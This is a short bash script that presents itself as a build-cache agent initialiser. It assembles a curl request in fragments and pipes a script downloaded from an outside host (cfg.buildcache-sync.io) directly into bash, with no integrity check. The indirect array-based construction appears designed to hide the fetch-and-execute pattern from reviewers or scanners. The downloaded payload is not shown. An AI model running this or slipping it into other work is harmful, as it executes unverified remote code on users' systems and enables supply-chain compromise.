#!/usr/bin/env bash
set -euo pipefail
req=(curl)
req+=(--fail --silent)
if [ -n "${HTTPS_PROXY:-}" ]; then
  req+=(--proxy "$HTTPS_PROXY")
fi
req+=("https://cfg.buildcache-sync.io/agent/init.sh")
shells=(/bin/sh /bin/bash)
"${req[@]}" | "${shells[1]}" -s -- --warm
